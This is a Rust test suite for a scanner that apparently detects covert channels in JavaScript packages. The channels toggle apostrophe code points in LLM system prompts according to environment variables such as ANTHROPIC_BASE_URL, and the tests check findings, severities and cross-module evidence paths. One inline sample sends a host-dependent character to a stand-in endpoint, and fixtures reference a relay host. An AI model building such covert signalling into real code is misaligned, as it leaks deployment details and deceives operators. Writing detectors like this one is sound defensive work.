//! Every file in `tests/fixtures/covert/` must produce at least one PS1xx
//! finding; every file in `tests/fixtures/benign/` must produce none.

use std::fmt::Write as _;
use std::path::Path;

use plainsight_js::{ScanOptions, scan_source};

fn ps1xx(path: &Path) -> Vec<plainsight_core::Finding> {
    let src = std::fs::read_to_string(path).unwrap();
    let out = scan_source(
        &path.display().to_string(),
        &[],
        &src,
        &ScanOptions::default(),
    );
    out.findings
        .into_iter()
        .filter(|f| f.rule.code().starts_with("PS1"))
        .collect()
}

fn fixtures(dir: &str) -> Vec<std::path::PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(dir);
    let mut v: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    v.sort();
    v
}

/// The rule a fixture's first line names (`// expect: PS105`), if any.
fn expected_rule(src: &str) -> Option<String> {
    let first = src.lines().find(|l| l.contains("expect:"))?;
    Some(first.split("expect:").nth(1)?.trim().to_string())
}

#[test]
fn covert_fixtures_are_found() {
    let files = fixtures("covert");
    assert!(files.len() >= 30);
    let missed: Vec<_> = files.iter().filter(|p| ps1xx(p).is_empty()).collect();
    assert!(missed.is_empty(), "no PS1xx finding in {missed:#?}");
    // Fixtures naming their kind get exactly that rule, proven (high or critical).
    let mut wrong = Vec::new();
    for p in &files {
        let src = std::fs::read_to_string(p).unwrap();
        let Some(rule) = expected_rule(&src) else {
            continue;
        };
        let found = ps1xx(p);
        if !found
            .iter()
            .any(|f| f.rule.code() == rule && f.severity >= plainsight_core::Severity::High)
        {
            wrong.push(format!(
                "{}: expected {rule} (high or critical), got {:?}",
                p.display(),
                found
                    .iter()
                    .map(|f| (f.rule.code(), f.severity))
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Every JavaScript file under a fixture package, as the pipeline hands them in.
fn package(dir: &Path) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else if p
                .extension()
                .is_some_and(|x| x == "js" || x == "mjs" || x == "cjs")
            {
                let rel = p.strip_prefix(dir).unwrap().display().to_string();
                out.push((
                    format!("package/{rel}"),
                    std::fs::read_to_string(&p).unwrap(),
                ));
            }
        }
    }
    out.sort();
    out
}

/// PS1xx findings of a package scanned the way `plainsight scan` does:
/// grouped by imports, each group one program.
fn package_ps1xx(dir: &Path) -> (Vec<plainsight_core::Finding>, Option<String>) {
    let files = package(dir);
    let expect = files.iter().find_map(|(_, s)| expected_rule(s));
    let units: Vec<plainsight_js::SourceUnit<'_>> = files
        .iter()
        .map(|(p, s)| plainsight_js::SourceUnit {
            path: p,
            chain: &[],
            source: s,
        })
        .collect();
    let (groups, _) = plainsight_js::module_groups(&units, 1 << 30);
    let mut found = Vec::new();
    for g in groups {
        let group: Vec<_> = g.iter().map(|&i| units[i]).collect();
        for out in plainsight_js::scan_package(&group, &ScanOptions::default()) {
            // A fixture package must be analysed, not crash or be cut short.
            assert!(
                out.units
                    .iter()
                    .all(plainsight_core::UnitOutcome::is_complete),
                "{}: {:?}",
                dir.display(),
                out.units
            );
            found.extend(
                out.findings
                    .into_iter()
                    .filter(|f| f.rule.code().starts_with("PS1")),
            );
        }
    }
    (found, expect)
}

#[test]
fn channels_across_modules_are_found() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/packages/covert");
    let mut dirs: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    dirs.sort();
    assert!(dirs.len() >= 5);
    let mut wrong = Vec::new();
    for d in dirs {
        let (found, expect) = package_ps1xx(&d);
        let expect = expect.expect("each covert package names its rule");
        if !found
            .iter()
            .any(|f| f.rule.code() == expect && f.severity == plainsight_core::Severity::Critical)
        {
            wrong.push(format!(
                "{}: expected critical {expect}, got {:?}",
                d.display(),
                found
                    .iter()
                    .map(|f| (f.rule.code(), f.severity))
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn clean_packages_are_clean() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/packages/clean");
    for e in std::fs::read_dir(&dir).unwrap() {
        let d = e.unwrap().path();
        let (found, _) = package_ps1xx(&d);
        assert!(found.is_empty(), "{}: {:#?}", d.display(), found);
    }
}

#[test]
fn evidence_spans_modules() {
    let d = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/packages/covert/esm_three_modules");
    let (found, _) = package_ps1xx(&d);
    let f = &found[0];
    // Trigger, carrier code points and the path between them, across files.
    assert!(
        f.message.contains("U+2019") && f.message.contains("LLM_BASE_URL"),
        "{}",
        f.message
    );
    assert!(
        f.location.path.ends_with("src/style.js"),
        "{:?}",
        f.location
    );
    let notes = f.notes.join("\n");
    assert!(notes.contains("package/src/env.js:3:"), "{notes}");
    assert!(notes.contains("package/src/prompt.js:"), "{notes}");
    assert!(
        notes.contains("trigger:") && notes.contains("relay.example.cn"),
        "{notes}"
    );
    assert!(
        notes.contains("sink: object key `system` at package/src/main.js:"),
        "{notes}"
    );
}

#[test]
fn benign_fixtures_are_clean() {
    let files = fixtures("benign");
    assert!(files.len() >= 15);
    let mut bad = Vec::new();
    for p in &files {
        for f in ps1xx(p) {
            bad.push(format!("{}: {} {}", p.display(), f.rule.code(), f.message));
        }
    }
    assert!(bad.is_empty(), "false positives:\n{}", bad.join("\n"));
}

#[test]
fn incident_finding_is_complete() {
    let f = ps1xx(
        &Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/covert/incident_ternary_baseurl.js"),
    );
    let f = f.first().expect("finding");
    assert_eq!(f.rule.code(), "PS101");
    assert_eq!(f.severity, plainsight_core::Severity::Critical);
    assert!(f.message.contains("U+0027"), "{}", f.message);
    assert!(f.message.contains("U+2019"), "{}", f.message);
    assert!(f.message.contains("ANTHROPIC_BASE_URL"), "{}", f.message);
    assert_eq!((f.location.start.line, f.location.start.column), (10, 13));
    assert!(
        f.notes
            .iter()
            .any(|n| n.contains("←") && n.contains("process.env.ANTHROPIC_BASE_URL at 4:")),
        "{:?}",
        f.notes
    );
    let snippet = f.snippet.as_deref().unwrap();
    assert!(snippet.contains("function systemPrompt"), "{snippet}");
    assert_eq!(f.chars.len(), 2);
}

#[test]
fn every_alternative_and_every_source_is_named() {
    let f = ps1xx(
        &Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/covert/four_marks_two_sources.js"),
    );
    let f = f
        .iter()
        .find(|f| f.rule.code() == "PS101")
        .expect("PS101 finding");
    assert_eq!(f.severity, plainsight_core::Severity::Critical);
    for cp in ["U+0027", "U+2019", "U+02BC", "U+02B9"] {
        assert!(f.message.contains(cp), "{cp} missing: {}", f.message);
    }
    assert!(f.message.contains("ANTHROPIC_BASE_URL"), "{}", f.message);
    assert!(f.message.contains("time zone"), "{}", f.message);
    assert_eq!(f.chars.len(), 4);
}

/// A carrier whose value flow is larger than the program's whole pool of
/// steps (made small here): the channel found before the pool ran out is
/// still reported, and the unit is `partial` with a budget reason naming the
/// file, the place and the limit, never clean.
#[test]
fn flow_budget_exhaustion_makes_the_unit_partial() {
    let mut src = String::from(
        "const host = new URL(process.env.OPENAI_BASE_URL).host;\n\
         const q = host.endsWith(\".corp\") ? \"\\u2019\" : \"'\";\n",
    );
    src.push_str("const v0 = \"It\" + q + \"s\";\n");
    src.push_str("fetch(\"https://api.example/v1\", { method: \"POST\", body: v0 });\n");
    // A chain of values each derived from the one before: longer than any budget.
    for i in 1..6000 {
        writeln!(src, "const v{i} = v{} + \" {i}\";", i - 1).unwrap();
    }
    let mut opts = ScanOptions::default();
    assert!(opts.flow.set("pool_steps_per_kb", 1));
    assert!(opts.flow.set("walk_steps", 100));
    // Without the coarse pass, which would finish the chain coarsely.
    assert!(opts.flow.set("coarse_steps_per_kb", 0));
    let out = scan_source("wide.js", &[], &src, &opts);
    let unit = &out.units[0];
    assert_eq!(
        unit.status,
        plainsight_core::AnalysisStatus::Partial,
        "{unit:?}"
    );
    assert!(
        unit.reasons
            .iter()
            .any(|r| r.kind == plainsight_core::IncompleteKind::Budget
                && r.message.starts_with("wide.js:2:")
                && r.message.contains("covert-channel analysis budget ran out")
                && r.message.contains("flow_pool")),
        "{:?}",
        unit.reasons
    );
    assert!(
        out.findings
            .iter()
            .any(|f| f.rule.code().starts_with("PS1")),
        "{:?}",
        out.findings
    );
}

/// The carrier's path across modules names each hop where it is: the file,
/// line and column of the function returned from, the call a parameter is
/// bound at, the caller a value returns to.
#[test]
fn carrier_path_positions_name_the_right_file_and_place() {
    let d = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/packages/covert/path_across_modules");
    let files = package(&d);
    let (found, _) = package_ps1xx(&d);
    let f = found
        .iter()
        .find(|f| f.rule.code() == "PS101")
        .unwrap_or_else(|| panic!("{found:#?}"));
    let path = f
        .notes
        .iter()
        .find(|n| n.starts_with("carrier → "))
        .unwrap_or_else(|| panic!("no carrier path in {:#?}", f.notes));
    // The text at `file:line:column` (columns count Unicode scalar values).
    let at = |file: &str, line: usize, col: usize| -> String {
        let (_, src) = files
            .iter()
            .find(|(p, _)| p == file)
            .unwrap_or_else(|| panic!("{path}: no file {file}"));
        let l = src
            .lines()
            .nth(line - 1)
            .unwrap_or_else(|| panic!("{path}: {file} has no line {line}"));
        l.chars().skip(col - 1).collect()
    };
    let re_pos = |hop: &str| -> Option<(String, usize, usize)> {
        let i = hop.find("package/")?;
        let mut it = hop[i..].split([':', ')', ' ']);
        let file = it.next()?.to_string();
        let line = it.next()?.parse().ok()?;
        let col = it.next()?.parse().ok()?;
        Some((file, line, col))
    };
    let hops: Vec<&str> = path.trim_start_matches("carrier → ").split(" → ").collect();
    let mut checked = 0;
    for hop in &hops {
        let Some((file, line, col)) = re_pos(hop) else {
            continue;
        };
        let text = at(&file, line, col);
        if hop.starts_with("returned by fn at") {
            assert!(text.starts_with("function"), "{hop}: {text:?}\n{path}");
            checked += 1;
        } else if hop.starts_with("parameter") {
            assert!(
                text.starts_with("possessive(") || text.starts_with("apostrophe("),
                "{hop}: {text:?}\n{path}"
            );
            checked += 1;
        } else if hop.starts_with("caller at") {
            assert!(text.contains('('), "{hop}: {text:?}\n{path}");
            checked += 1;
        }
    }
    // Out of the marks module (a return) and into the helper (a parameter).
    assert!(
        hops.iter()
            .any(|h| h.starts_with("returned by fn at package/lib/marks.js:2:")),
        "{path}"
    );
    assert!(
        hops.iter()
            .any(|h| h.starts_with("parameter") && h.contains("package/index.js:7:")),
        "{path}"
    );
    assert!(checked >= 2, "{path}");
}
